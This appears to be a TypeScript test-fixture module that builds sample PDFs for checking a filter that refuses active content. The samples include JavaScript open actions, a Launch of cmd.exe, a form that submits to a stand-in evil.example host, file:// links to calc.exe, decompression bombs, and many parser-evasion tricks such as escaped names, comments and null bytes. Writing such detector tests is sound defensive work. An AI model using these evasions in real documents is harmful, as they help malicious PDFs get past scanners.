import { deflateSync } from "node:zlib";
import type { Described } from "./hostile-file.ts";

const MB = 1024 * 1024;
const SCRIPT_ACTION = "<</S/JavaScript/JS(app.alert(1))>>";

export const pdf = (objects: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from("%PDF-1.7\n"),
    Buffer.from(objects),
    Buffer.from("\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
  ]);

/** A stream of compressed objects whose dictionary ends in `entries`. */
function packedObjects(entries: string, text = `7 0 ${SCRIPT_ACTION}`, keyword = "stream\n"): Buffer {
  const packed = deflateSync(text);
  const head = `5 0 obj<</N 1/First 4/Length ${packed.length}${entries}>>${keyword}`;
  return Buffer.concat([Buffer.from(head, "latin1"), packed, Buffer.from("\nendstream endobj")]);
}

const objectStream = (text: string, filter = "/FlateDecode"): Buffer =>
  packedObjects(`/Type/ObjStm/Filter ${filter}`, text);

export function hostilePdfs(): Described[] {
  return [...plainPdfs(), ...packedPdfs(), ...misreadPdfs(), ...disguisedPdfs(), ...activePdfs()];
}

function plainPdfs(): Described[] {
  const object = (content: string) => pdf(`1 0 obj${content}endobj`);
  return [
    ["pdf", "a script", object("<</OpenAction<</S/JavaScript/JS(1)>>>>")],
    ["pdf", "a script in codes", object("<</OpenAction<</S/J#61vaScr#69pt/JS(1)>>>>")],
    ["pdf", "a script in a code of a capital", object("<</OpenAction<</S/Java#53cript/JS(1)>>>>")],
    ["pdf", "a script in a code that is not hexadecimal", object("<</OpenAction<</S/Java#3Zcript/JS(1)>>>>")],
    ["pdf", "the start of a program", object("<</A<</S/Launch/F(cmd.exe)>>>>")],
    ["pdf", "a file in a PDF", object("<</Names<</EmbeddedFiles 2 0 R>>>>")],
    ["pdf", "a form that sends", object("<</A<</S/SubmitForm/F(https://evil.example)>>>>")],
    ["pdf", "a film", object("<</Subtype/RichMedia>>")],
    ["pdf", "another file that is opened", object("<</A<</S/GoToR/F(x.pdf)>>>>")],
    ["pdf", "a form of its own language", object("<</AcroForm<</XFA 3 0 R>>>>")],
    ["pdf", "a form of its own language behind a comment", object("<</AcroForm<</XFA %c\n3 0 R>>>>")],
    ["pdf", "an encrypted PDF", pdf("1 0 obj<<>>endobj\ntrailer<</Encrypt 3 0 R>>")],
    ["pdf", "an encrypted PDF behind a comment", pdf("1 0 obj<<>>endobj\ntrailer<</Encr#79pt%c\r3 0 R>>")],
    ["pdf", "nothing but starts of dictionaries", pdf(`${"obj<<".repeat(1_000_000)}/First`)],
    ["pdf", "nothing but starts of strings", pdf(`${"obj<</A(".repeat(1_000_000)}/First`)],
  ];
}

/** Objects that are compressed in the usual and in unusual ways. */
function packedPdfs(): Described[] {
  const flate = "/Filter/FlateDecode";
  const stream = (entries: string) => pdf(packedObjects(entries));
  const update = Buffer.concat([pdf("1 0 obj<<>>endobj"), packedObjects(`/Type/ObjStm${flate}`)]);
  return [
    ["pdf", "a script among compressed objects", pdf(objectStream(`1 0 ${SCRIPT_ACTION}`))],
    ["pdf", "objects in two filters", stream("/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]")],
    ["pdf", "objects in the same filter twice", stream("/Type/ObjStm/Filter[/FlateDecode/FlateDecode]")],
    ["pdf", "objects in a filter of an array", stream("/Type/ObjStm/Filter[ %c\n/FlateDecode ]")],
    ["pdf", "objects in a short name of a filter", stream("/Type/ObjStm/Filter/Fl")],
    ["pdf", "objects in a filter under a short name", stream("/Type/ObjStm/F/FlateDecode")],
    ["pdf", "objects in a filter that is told twice", stream(`/Type/ObjStm${flate}/Filter/ASCIIHexDecode`)],
    [
      "pdf",
      "objects with a predictor",
      stream(`/Type/ObjStm${flate}/DecodeParms<</Predictor 12/Columns 4>>`),
    ],
    ["pdf", "objects with parameters elsewhere", stream(`/Type/ObjStm${flate}/DecodeParms 9 0 R`)],
    ["pdf", "objects in an update", update],
    ["pdf", "objects that explode", pdf(objectStream("a".repeat(40 * MB)))],
    ["pdf", "objects that are cut", pdf(packedObjects(`/Type/ObjStm${flate}`).subarray(0, 110))],
  ];
}

/** Dictionaries that a search for words reads differently than a reader of PDF. */
function misreadPdfs(): Described[] {
  const flate = "/Filter/FlateDecode";
  const stream = (entries: string, keyword?: string) => pdf(packedObjects(entries, undefined, keyword));
  const filler = " ".repeat(9000);
  return [
    ["pdf", "a script behind a misleading word", stream(`${flate}/X(obj)/Type/ObjStm`)],
    ["pdf", "a script behind a word in a known entry", stream(`${flate}/Extends(obj)/Type/ObjStm`)],
    ["pdf", "a filter that is another object", stream("/Type/ObjStm/Filter 6 0 R")],
    ["pdf", "a filter behind a comment", stream("/Type/ObjStm/Filter %c\n/FlateDecode")],
    [
      "pdf",
      "a filter whose comment ends the dictionary",
      stream(`/Type/ObjStm/Filter%>>stream\r/FlateDecode`),
    ],
    ["pdf", "a filter in codes", stream("/Type/ObjStm/#46ilter/Flate#44ecode")],
    ["pdf", "a type in codes", stream(`/Type/Obj#53tm${flate}`)],
    ["pdf", "objects of no type", stream(flate)],
    ["pdf", "objects of another type", stream(`/Type/XRef${flate}`)],
    ["pdf", "objects of no type behind a string", stream(`/DL(>>stream\n)${flate}`)],
    ["pdf", "a long dictionary", stream(`${flate}/DL 1${filler}/Type/ObjStm${filler}`)],
    ["pdf", "a long dictionary of no type", stream(`${flate}${filler}`)],
    ["pdf", "a dictionary with a closing mark as value", stream(`/A<</B>> >>${flate}`)],
    ["pdf", "a dictionary with a closing mark in an array", stream(`/A[>>]${flate}`)],
    ["pdf", "a dictionary with a stray word", stream(`/A[a<<]${flate}`)],
    ["pdf", "a dictionary with a stray bracket", stream(`/A ) /B${flate}`)],
    ["pdf", "a keyword behind a comment", stream(flate, "%c\nstream\n")],
    ["pdf", "a keyword behind an unusual blank", stream(flate, "\u0080stream\n")],
    ["pdf", "data behind the rest of a line", stream(flate, "stream x\n")],
    ["pdf", "a type that is counted twice", twice()],
  ];
}

/** Objects whose bytes single readers take for others: white space that is none, names that end early, hidden numbers. */
function disguisedPdfs(): Described[] {
  const link = (address: string, extra = "") => `4 0 obj<<${extra}/A<</S/URI/URI${address}>>>>endobj\n`;
  const linkTo = (head: string, body = "(file:///c:/calc.exe)") =>
    pdf(`${link(" 12 0 R")}${head}obj${body}endobj`);
  const opened = (head: string, body: string) =>
    pdf(`1 0 obj<</OpenAction 12 0 R>>endobj ${head}obj${body}endobj`);
  const packed = (text: string, entries: string) => pdf(packedObjects(`${entries}/Filter/FlateDecode`, text));
  const hiddenNumber = `12${" ".repeat(38)}0 `;
  const utf16 = Buffer.from("\ufefffile:///a", "utf16le").toString("hex");
  return [
    ["pdf", "a doubtful space among numbers", packed(`9\v${SCRIPT_ACTION}`, "/Type/ObjStm")],
    ["pdf", "a type that ends early", packed(`7 0 <</S/X>>`, "/Type/ObjStm#00")],
    ["pdf", "a name of files that ends early", pdf("1 0 obj<</Names<</EmbeddedFiles#00<<>>>>>>endobj")],
    ["pdf", "a key that ends early", pdf("1 0 obj<</A<</S/GoTo/JS#00(1)>>>>endobj")],
    ["pdf", "a key with a doubtful space", pdf("1 0 obj<</A<</S/GoTo/JS\u00a0(1)>>>>endobj")],
    ["pdf", "an address of a hidden number", linkTo(hiddenNumber)],
    ["pdf", "an address of a number with a fraction", linkTo("12.0 0 ")],
    ["pdf", "an address behind a doubtful space", linkTo("12 0 ", "\v(file:///c:/calc.exe)")],
    ["pdf", "an address by two references", linkTo("12 0 ", " 13 0 R\n")],
    ["pdf", "an address in an unsound object", pdf(link("(file:///c:/calc.exe)", "/X 1 2 "))],
    ["pdf", "an address as a name", pdf(link("/file:#2f#2f#2fc:#2fcalc.exe"))],
    ["pdf", "an address with a mark of UTF-8", pdf(link("(\\357\\273\\277file:///c:/calc.exe)"))],
    ["pdf", "an address with a mark of UTF-16", pdf(link(`<${utf16}>`))],
    ["pdf", "an action of a hidden number", opened(hiddenNumber, "<</S/URI/URI(https://a.example)>>")],
    ["pdf", "an action close to its reference", pdf("5 0 obj<</A<</S/GoTo/Next[5 0R]>>/S/URI>>endobj")],
    ["pdf", "an unsound action of a hidden number", opened(hiddenNumber, "<</S/Thread#00/F#00(a)>>")],
  ];
}

/** One dictionary stands before two keywords, and the real one is out of sight. */
function twice(): Buffer {
  const harmless = deflateSync("7 0 <<>>");
  const head = "4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n";
  const second = Buffer.concat([Buffer.from("\nstream\n"), harmless, Buffer.from("\nendstream endobj\n")]);
  const hidden = packedObjects(`/Type/ObjStm/Filter/FlateDecode${" ".repeat(5000)}`);
  return pdf(Buffer.concat([Buffer.from(head), harmless, second, hidden]));
}

/** What may not stand in a PDF, by the words for which it is refused. */
const ACTIVE_OBJECTS: Readonly<Record<string, readonly string[]>> = {
  脚本: ["<</A<</S/URI/JS(1)>>>>", "<</Next[<</#4A#53 5 0 R>>]>>", "[<</A<</S/GoTo/JS<41>>>>>]"],
  多媒体内容: [
    "<</A<</S/Rendition/OP 0/JS(1)>>>>",
    "<</A<</S/#52endition/R 5 0 R>>>>",
    "<</A<</S/Movie>>>>",
    "<</A<</S/Sound/Sound 5 0 R>>>>",
    "<</A<</S/GoTo3DView>>>>",
    "<</A<</S/RichMediaExecute>>>>",
    "<</Subtype/Screen>>",
    "<</Subtype/Movie/A true>>",
    "<</Subtype/Sound>>",
    "<</Subtype/RichMedia>>",
    "<</Subtype/3D>>",
    "<</Subtype 2 0 R>>endobj 2 0 obj/Movie ",
  ],
  提交: ["<</A<</S/SubmitForm/F 5 0 R>>>>", "<</A<</S/ImportData/F 5 0 R>>>>", "<</A<</S/ResetForm>>>>"],
  打开其他文件: ["<</A<</S/GoToR>>>>", "<</A<</S/GoToE>>>>", "<</A<</S/Thread/D 0>>>>"],
  外部文件: [
    "<</F<</FS/URL/F 5 0 R>>>>",
    "<</F(//server/a)>>",
    "<</Type/Filespec>>",
    "<</Length 0/F 5 0 R>>stream\nendstream",
    "<</Length 0/FFilter/FlateDecode>>stream\nendstream",
    "<</Subtype/Form/Ref<</F 5 0 R/Page 0>>>>stream\nendstream",
    "<</OPI<</2.0 5 0 R>>>>",
  ],
  嵌入的文件: ["<</Subtype/FileAttachment>>", "<</EF<</UF 5 0 R>>>>"],
  动态表单: ["<</XFA[(a)5 0 R]>>"],
  自动执行: ["<</AA<</O<</S/GoTo>>>>>>", "<</#41A 5 0 R>>"],
  菜单命令: ["<</A<</S/Named/N/SaveAs>>>>", "<</A<</S/Named/N 5 0 R>>>>"],
  无法放行的动作: [
    "<</A<</S/Unknown>>>>",
    "<</A<</S 5 0 R>>>>",
    "<</OpenAction<</S/URI/URI(https://a.example)>>>>",
    "<</A<</S/GoTo/Next<</S/URI/URI(https://a.example)>>>>>>",
    "<</OpenAction 2 %c\n0 R>>endobj 2 0 %c\nobj<</S/URI/URI(https://a.example)>>",
    "<</A 2 0 R>>endobj 2 0 obj<</S/GoTo>>endobj 2 0 obj<</S/Unknown>>",
  ],
  打开程序或文件的链接: [
    "<</A<</S/URI/URI(file:///c:/a.exe)>>>>",
    "<</A<</S/URI/URI(f\\151le:///a)>>>>",
    "<</A<</S/URI/URI( java\tscript:x)>>>>",
    "<</A<</S/URI/URI<66696c653a>>>>>",
    "<</A<</S/URI/URI<feff00660069006c0065003a>>>>>",
    "<</A<</S/URI/URI(\\\\\\\\server\\\\a)>>>>",
    "<</A<</S/URI/URI(//server/a)>>>>",
    "<</A<</S/URI/URI 2 0 R>>>>endobj 2 0 obj(ms-word:x)",
    "<</URI<</Base(file:///)>>>>",
  ],
};

/** The same object plain, in an update and compressed, as `expected` words are told of it. */
export function activePdfObjects(): { expected: string; object: string; content: Buffer }[] {
  return Object.entries(ACTIVE_OBJECTS).flatMap(([expected, objects]) =>
    objects.flatMap((object) => {
      const plain = pdf(`1 0 obj${object}endobj`);
      const update = Buffer.concat([pdf("1 0 obj<<>>endobj"), plain]);
      const isSingle = !/stream|endobj/.test(object);
      const files = [plain, update, ...(isSingle ? [pdf(objectStream(`7 0 ${object}`))] : [])];
      return files.map((content) => ({ expected, object, content }));
    }),
  );
}

const activePdfs = (): Described[] =>
  Object.values(ACTIVE_OBJECTS).flatMap((objects) =>
    objects.map((object) => ["pdf", object, pdf(`1 0 obj${object}endobj`)] as const),
  );

/** What everyday programs write. */
const HARMLESS_OBJECTS: readonly string[] = [
  "<</Title(/JS 1 /AA /EF <</S/Movie>>)/A<</S/GoTo/D[1 0 R/Fit]>>>>",
  "<</A<</S/URI/URI(https://a.example/?a=\\(b\\))>>>>",
  "<</A<</S/URI/URI(mailto:a@a.example)>>>>",
  "<</A<</S/URI/URI(tel:025-1234)>>>>",
  "<</A<</S/URI/URI(www.example.com/a)>>>>",
  "<</A 2 0 R>>endobj 2 0 obj<</S/URI/URI 3 0 R>>endobj 3 0 obj(http://a.example)",
  "<</A<</S/Named/N/NextPage>>>>",
  "<</OpenAction<</S/Named/N/Print>>>>",
  "<</OpenAction[1 0 R/XYZ null null 0]>>",
  "<</A<</S/Hide/T(a)>>/AA<<>>>>",
  "<</A<</S/SetOCGState/State[/ON 5 0 R]/Next<</S/GoTo/D(a)>>>>>>",
  "<</Type/StructElem/S/Sect/A<</O/Layout/Placement/Block>>/P 2 0 R/K[0]>>",
  "<</Group<</S/Transparency/CS/DeviceRGB>>/BS<</S/D>>/Trans<</S/Fly>>/BM/Screen>>",
  "<</Subtype/Link/F 4/Border[0 0 0]/Rect[0 0 1 1]>>",
  "<</Font<</F 5 0 R/A 6 0 R/S 7 0 R/Sound 8 0 R>>>>",
  "<</Subtype/Widget/FT/Tx/T(JS)/V(XFA)/MK<</BG[1]>>>>",
];

export const harmlessPdfs = (): Buffer[] =>
  HARMLESS_OBJECTS.flatMap((object) => [
    pdf(`1 0 obj${object}endobj`),
    ...(object.includes("endobj") ? [] : [pdf(objectStream(`7 0 ${object}`))]),
  ]);
